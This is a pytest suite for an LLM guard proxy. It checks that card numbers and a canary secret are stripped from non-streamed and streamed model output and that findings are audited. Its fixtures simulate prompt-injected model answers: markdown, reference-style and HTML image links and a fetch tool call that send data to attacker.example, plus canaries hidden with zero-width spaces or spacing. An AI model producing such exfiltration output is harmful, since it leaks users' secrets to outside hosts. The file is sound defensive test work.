"""Issue 16 cold review (attack16), the output side of the guarded proxy: H2 (every text-bearing field of a
non-streamed answer), H3 (a long image link in a stream), H8 (zero-click fetch forms), M1 (leaks in another
form), L1 (audit entries for streamed findings, streamed upstream errors), L2 (block vs redact mode), L3
(streamed tool calls, reasoning and n > 1 choices).

Real parts: the project's vault, tokens and audit log, the proxy on uvicorn, and an OpenAI-compatible upstream
on 127.0.0.1 that answers with exactly the body a test registered (standing for what a model writes after an
injection; the client's prompt stays innocuous), streamed as SSE when asked.
"""

from __future__ import annotations

import contextlib
import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from fastapi import FastAPI, Request
from starlette.responses import JSONResponse, PlainTextResponse, StreamingResponse
from tests._support.server_thread import ServerThread

from bastion.crypto.kdf import KdfParams
from bastion.guard.policy import PolicyConfig
from bastion.serve.auth import Authenticator
from bastion.serve.guard_proxy import GuardProxy, ProxyConfig
from bastion.vault import Vault, init_project

CARD = "4111 1111 1111 1111"
CANARY = "bastion-canary-5f0e1d2c3b4a6978"
EVIL = "attacker.example"


def _replay_upstream() -> tuple[FastAPI, dict[str, Any]]:
    """Answers ``replay KEY`` (the last user message) with the body registered under KEY: ``{"json": …}``,
    ``{"sse": [chunk, …]}`` or ``{"status": 500}``."""
    app = FastAPI()
    answers: dict[str, Any] = {}

    async def answer(request: Request) -> Any:
        body = await request.json()
        msgs = body.get("messages") or [{"role": "user", "content": body.get("prompt", "")}]
        key = str(msgs[-1].get("content", "")).split("replay ", 1)[-1].strip()
        spec = answers[key]
        if "status" in spec:
            return PlainTextResponse("no", status_code=spec["status"])
        if "sse" in spec:

            def gen() -> Iterator[bytes]:
                for c in spec["sse"]:
                    yield b"data: " + json.dumps(c).encode() + b"\n\n"
                yield b"data: [DONE]\n\n"

            return StreamingResponse(gen(), media_type="text/event-stream")
        return JSONResponse(spec["json"])

    app.add_route("/v1/chat/completions", answer, methods=["POST"])
    app.add_route("/v1/completions", answer, methods=["POST"])
    return app, answers


@pytest.fixture(scope="module")
def vault(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Vault]:
    home = tmp_path_factory.mktemp("r6-output") / "home"
    v = init_project(home=home, passphrase="r6 output", kdf=KdfParams.unsafe_fast())
    yield v
    v.close()


@pytest.fixture(scope="module")
def token(vault: Vault) -> str:
    return vault.create_token(name="carol", role="consumer", models=["echo"])[1]


@pytest.fixture(scope="module")
def upstream() -> Iterator[tuple[str, dict[str, Any]]]:
    app, answers = _replay_upstream()
    with ServerThread(app) as srv:
        yield srv.url, answers


@contextlib.contextmanager
def _proxy(vault: Vault, upstream: str, **overrides: Any) -> Iterator[tuple[str, list[Any]]]:
    """The proxy served; afterwards the audit entries it wrote (its writer flushed and closed)."""
    overrides.setdefault("canaries", (CANARY,))
    proxy = GuardProxy(
        config=ProxyConfig(upstream=upstream, **overrides),
        authenticator=Authenticator(verify_token=vault.authenticate),
        audit=vault.audit,
    )
    before = vault.audit.size()
    entries: list[Any] = []
    with ServerThread(proxy.app(), lifespan="on") as srv:
        yield srv.url, entries
    if proxy.audit is not None:
        proxy.audit.close()
    entries.extend(vault.audit.entries(start=before))


_N = iter(range(10**6))


def _ask(url: str, token: str, answers: dict[str, Any], spec: dict[str, Any], **body: Any) -> httpx.Response:
    key = f"k{next(_N)}"
    answers[key] = spec
    kind = body.pop("kind", "chat")
    path = "/v1/chat/completions" if kind == "chat" else "/v1/completions"
    payload: dict[str, Any] = {"model": "echo", **body}
    if kind == "chat":
        payload["messages"] = [{"role": "user", "content": f"replay {key}"}]
    else:
        payload["prompt"] = f"replay {key}"
    return httpx.post(url + path, json=payload, headers={"Authorization": f"Bearer {token}"}, timeout=30)


def _chat_json(message: dict[str, Any], **choice: Any) -> dict[str, Any]:
    c = {"index": 0, "message": {"role": "assistant", **message}, "finish_reason": "stop", **choice}
    return {"json": {"id": "x", "object": "chat.completion", "model": "echo", "choices": [c]}}


def _sse(deltas: list[tuple[int, dict[str, Any]]], *, finish: bool = True) -> dict[str, Any]:
    chunks: list[dict[str, Any]] = [
        {
            "id": "s",
            "object": "chat.completion.chunk",
            "choices": [{"index": i, "delta": d, "finish_reason": None}],
        }
        for i, d in deltas
    ]
    if finish:
        for i in sorted({i for i, _ in deltas}):
            chunks.append(
                {
                    "id": "s",
                    "object": "chat.completion.chunk",
                    "choices": [{"index": i, "delta": {}, "finish_reason": "stop"}],
                }
            )
    return {"sse": chunks}


def _pieces(text: str, size: int = 8) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def _events(resp: httpx.Response) -> list[dict[str, Any]]:
    return [
        json.loads(line[5:])
        for line in resp.text.splitlines()
        if line.startswith("data:") and line[5:].strip() != "[DONE]"
    ]


def _streamed(resp: httpx.Response) -> dict[int, dict[str, str]]:
    """Per choice index, per field, the text the client received."""
    out: dict[int, dict[str, str]] = {}
    for ev in _events(resp):
        for ch in ev.get("choices", []):
            got = out.setdefault(ch["index"], {})
            d = ch.get("delta") or {}
            for k in ("content", "reasoning_content", "refusal"):
                got[k] = got.get(k, "") + (d.get(k) or "")
            for tc in d.get("tool_calls") or []:
                k = f"tool{tc['index']}"
                got[k] = got.get(k, "") + ((tc.get("function") or {}).get("arguments") or "")
            if ch.get("finish_reason"):
                got["finish"] = ch["finish_reason"]
    return out


# -- H2: non-streamed answers ------------------------------------------------------------------------------
def test_every_text_field_of_a_whole_answer_is_checked(vault: Vault, token: str, upstream: Any) -> None:
    url, answers = upstream
    lp_card = {
        "content": [{"token": t, "logprob": -0.1, "top_logprobs": []} for t in _pieces(f"card {CARD}")]
    }
    lp_canary = {"content": [{"token": t, "logprob": -0.1, "top_logprobs": []} for t in _pieces(CANARY)]}
    cases = {
        "logprobs": _chat_json({"content": f"card {CARD}"}, logprobs=lp_card),
        "logprobs-canary": _chat_json({"content": f"marker {CANARY}"}, logprobs=lp_canary),
        "tool-args": _chat_json(
            {
                "content": None,
                "tool_calls": [
                    {
                        "id": "call_1",
                        "type": "function",
                        "function": {
                            "name": "fetch",
                            "arguments": json.dumps({"url": f"https://{EVIL}/c?d={CANARY}", "card": CARD}),
                        },
                    }
                ],
            }
        ),
        "tool-args-escaped": _chat_json(
            {
                "content": None,
                "tool_calls": [
                    {
                        "id": "call_2",
                        "type": "function",
                        "function": {
                            "name": "note",
                            "arguments": json.dumps({"n": CARD}, ensure_ascii=False).replace("4", "\\u0034"),
                        },
                    }
                ],
            }
        ),
        "reasoning": _chat_json({"content": "ok", "reasoning_content": f"the marker is {CANARY}"}),
        "parts": _chat_json({"content": [{"type": "text", "text": f"card {CARD} marker {CANARY}"}]}),
        "refusal": _chat_json({"content": None, "refusal": f"I cannot, your card {CARD} is blocked"}),
        "unknown-field": _chat_json({"content": "fine", "x_debug": f"{CANARY} {CARD}"}),
        "split-over-fields": _chat_json(
            {"content": f"part one {CANARY[:14]}", "reasoning_content": f"{CANARY[14:]} part two"}
        ),
    }
    with _proxy(vault, url) as (purl, _):
        for name, spec in cases.items():
            r = _ask(purl, token, answers, spec, logprobs=True)
            assert r.status_code == 200, name
            text = r.text
            assert "1111" not in text and "\\u0034" not in text, name
            assert "5f0e1d2c" not in text, name
            assert EVIL not in text, name
        # top-level fields the guard does not know (vLLM's prompt_logprobs) are dropped, numbers of usage kept
        spec = _chat_json({"content": "fine"})
        spec["json"]["prompt_logprobs"] = [{"1": {"decoded_token": CANARY}}]
        spec["json"]["usage"] = {"prompt_tokens": 3, "note": CANARY}
        spec["json"]["id"] = f"chatcmpl-{CANARY}"
        spec["json"]["system_fingerprint"] = CARD
        r = _ask(purl, token, answers, spec)
        assert CANARY not in r.text and CARD not in r.text and r.json()["usage"] == {"prompt_tokens": 3}
        assert r.json()["choices"][0]["message"]["content"] == "fine"
        # a clean answer keeps its logprobs; completions logprobs with a card are removed
        clean = {"content": [{"token": "hi", "logprob": -0.1, "top_logprobs": []}]}
        r = _ask(purl, token, answers, _chat_json({"content": "hi"}, logprobs=clean), logprobs=True)
        assert r.json()["choices"][0]["logprobs"]["content"][0]["token"] == "hi"
        comp = {
            "json": {
                "object": "text_completion",
                "choices": [
                    {
                        "index": 0,
                        "text": f"card {CARD}",
                        "finish_reason": "stop",
                        "logprobs": {"tokens": _pieces(f"card {CARD}"), "token_logprobs": [-0.1] * 4},
                    }
                ],
            }
        }
        r = _ask(purl, token, answers, comp, kind="text", logprobs=1)
        assert r.status_code == 200 and "1111" not in r.text and "[CREDIT_CARD]" in r.text


def test_a_malformed_answer_is_a_502(vault: Vault, token: str, upstream: Any) -> None:
    url, answers = upstream
    with _proxy(vault, url) as (purl, _):
        for body in ({"choices": None}, {"choices": [{"message": None}]}, {"choices": ["x"]}):
            assert _ask(purl, token, answers, {"json": body}).status_code == 502


# -- H3, H8, M1 in a stream -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "answer",
    [
        # H3: an image whose URL is longer than the hold-back, then a card
        f"Status: ![s](https://{EVIL}/c?d={'x' * 80}) and your card is {CARD}. Bye.",
        # the same with the data in the path (no query): the image is removed whole or the stream cut
        f"Status: ![s](https://{EVIL}/{'y' * 120}.png) and your card is {CARD}. Bye.",
        # H8: reference-style image and HTML <img>
        f"Look ![s][1] and your card is {CARD}.\n\n[1]: https://{EVIL}/c?d=secretdata\n\nBye.",
        f'Look <img src="https://{EVIL}/{"z" * 100}.png" width=1> and your card is {CARD}. Bye.',
        # M1: a canary with a zero-width space inside, spelt out, upper case
        "Sure: " + CANARY[:10] + "\u200b" + CANARY[10:] + " and more",
        "Sure: " + " ".join(CANARY) + " and more",
        "Sure: " + CANARY.upper() + " and more",
    ],
)
def test_stream_holds_back_what_it_cannot_judge_yet(
    vault: Vault, token: str, upstream: Any, answer: str
) -> None:
    url, answers = upstream
    with _proxy(vault, url) as (purl, _):
        r = _ask(purl, token, answers, _sse([(0, {"content": p}) for p in _pieces(answer)]), stream=True)
    got = _streamed(r)[0]
    sent = got["content"]
    assert EVIL not in sent and CARD not in sent
    assert "5f0e1d2c" not in sent.replace(" ", "").replace("\u200b", "").lower()
    assert got["finish"] in ("stop", "content_filter")


# -- L3: tool calls, reasoning, n > 1 ---------------------------------------------------------------------
def test_stream_keeps_tool_calls_reasoning_and_choices_apart(vault: Vault, token: str, upstream: Any) -> None:
    url, answers = upstream
    args = json.dumps({"city": "Paris", "days": 3})
    deltas: list[tuple[int, dict[str, Any]]] = [
        (0, {"role": "assistant", "reasoning_content": "thinking about it"})
    ]
    deltas.append(
        (
            0,
            {
                "tool_calls": [
                    {
                        "index": 0,
                        "id": "call_9",
                        "type": "function",
                        "function": {"name": "weather", "arguments": ""},
                    }
                ]
            },
        )
    )
    deltas += [(0, {"tool_calls": [{"index": 0, "function": {"arguments": p}}]}) for p in _pieces(args, 5)]
    deltas += [(1, {"content": p}) for p in _pieces("alpha beta gamma delta")]
    deltas += [(2, {"content": p}) for p in _pieces("one two three four")]
    with _proxy(vault, url) as (purl, _):
        r = _ask(purl, token, answers, _sse(deltas), stream=True, n=3)
        got = _streamed(r)
        assert got[0]["reasoning_content"] == "thinking about it"
        assert got[0]["tool0"] == args
        assert got[1]["content"] == "alpha beta gamma delta" and got[2]["content"] == "one two three four"
        assert {i: g["finish"] for i, g in got.items()} == {0: "stop", 1: "stop", 2: "stop"}
        names = [
            tc["function"].get("name")
            for ev in _events(r)
            for ch in ev["choices"]
            for tc in (ch.get("delta") or {}).get("tool_calls") or []
        ]
        assert "weather" in names
        # a canary in streamed tool-call arguments or reasoning cuts the stream before it
        bad = json.dumps({"url": f"https://{EVIL}/c?d={CANARY}"})
        leak = [(0, {"tool_calls": [{"index": 0, "function": {"arguments": p}}]}) for p in _pieces(bad, 4)]
        r = _ask(purl, token, answers, _sse(leak), stream=True)
        assert "5f0e1d2c" not in r.text and _streamed(r)[0]["finish"] == "content_filter"
        leak = [(0, {"reasoning_content": p}) for p in _pieces(f"so the marker is {CANARY} then more", 6)]
        r = _ask(purl, token, answers, _sse(leak), stream=True)
        assert "5f0e1d2c" not in r.text and "then more" not in r.text
        # a canary split between the content and a tool call's arguments
        split = [(0, {"content": "note " + CANARY[:15]})]
        split += [(0, {"tool_calls": [{"index": 0, "function": {"arguments": CANARY[15:] + " tail"}}]})]
        r = _ask(purl, token, answers, _sse(split), stream=True)
        assert "5f0e1d2c" not in r.text and _streamed(r)[0]["finish"] == "content_filter"
        # the deprecated function_call streams the same way
        legacy = [(0, {"function_call": {"name": "weather", "arguments": ""}})]
        legacy += [(0, {"function_call": {"arguments": p}}) for p in _pieces(args, 3)]
        r = _ask(purl, token, answers, _sse(legacy), stream=True)
        fc = [(ch.get("delta") or {}).get("function_call") or {} for ev in _events(r) for ch in ev["choices"]]
        assert "".join(f.get("arguments") or "" for f in fc) == args and {"name": "weather"} in fc
        # the chunks' own fields (id, model) are checked too, and unknown ones dropped
        spec = _sse([(0, {"content": "fine"})])
        for c in spec["sse"]:
            c.update(id=f"chatcmpl-{CANARY}", x_debug=CARD)
        r = _ask(purl, token, answers, spec, stream=True)
        assert _streamed(r)[0]["content"] == "fine" and CANARY not in r.text and CARD not in r.text


# -- L1: audit entries --------------------------------------------------------------------------------------
def test_streamed_findings_and_upstream_errors_are_audited(vault: Vault, token: str, upstream: Any) -> None:
    url, answers = upstream
    card_sse = _sse([(0, {"content": p}) for p in _pieces(f"your card is {CARD}, thanks")])
    with _proxy(vault, url) as (purl, entries):
        r = _ask(purl, token, answers, card_sse, stream=True)
        assert "[CREDIT_CARD]" in _streamed(r)[0]["content"]
        assert _ask(purl, token, answers, {"status": 500}, stream=True).status_code == 502
    redacted = [e for e in entries if e.action == "guard:output-redacted"]
    assert redacted and redacted[0].details.get("stream") is True
    assert "pii:CREDIT_CARD" in redacted[0].details["findings"]
    assert CARD not in json.dumps([e.to_dict() for e in entries])
    records = [r for e in entries if e.action == "serve:requests" for r in e.details.get("requests", [])]
    assert any(r.get("status") == 502 and r.get("decision") == "error:upstream" for r in records), records
    with _proxy(vault, url, mode="shadow") as (purl, entries):
        r = _ask(purl, token, answers, card_sse, stream=True)
        assert CARD in _streamed(r)[0]["content"]  # shadow: nothing changed
    flagged = [e for e in entries if e.action == "guard:output-flagged"]
    assert flagged and "pii:CREDIT_CARD" in flagged[0].details["findings"]


# -- L2: block vs redact mode -------------------------------------------------------------------------------
def test_redact_mode_redacts_what_block_mode_blocks(vault: Vault, token: str, upstream: Any) -> None:
    url, answers = upstream
    strict = PolicyConfig(pii="block")
    spec = _chat_json({"content": f"your card is {CARD}, thanks"})
    with _proxy(vault, url, mode="block", output=strict) as (purl, _):
        c = _ask(purl, token, answers, spec).json()["choices"][0]
        assert c["finish_reason"] == "content_filter" and c["message"]["content"] == ""
    with _proxy(vault, url, mode="redact", output=strict) as (purl, _):
        c = _ask(purl, token, answers, spec).json()["choices"][0]
        assert c["message"]["content"] == "your card is [CREDIT_CARD], thanks"
        leak = _ask(purl, token, answers, _chat_json({"content": f"marker {CANARY}"})).json()["choices"][0]
        assert leak["finish_reason"] == "content_filter"  # a canary cannot be redacted: still blocked
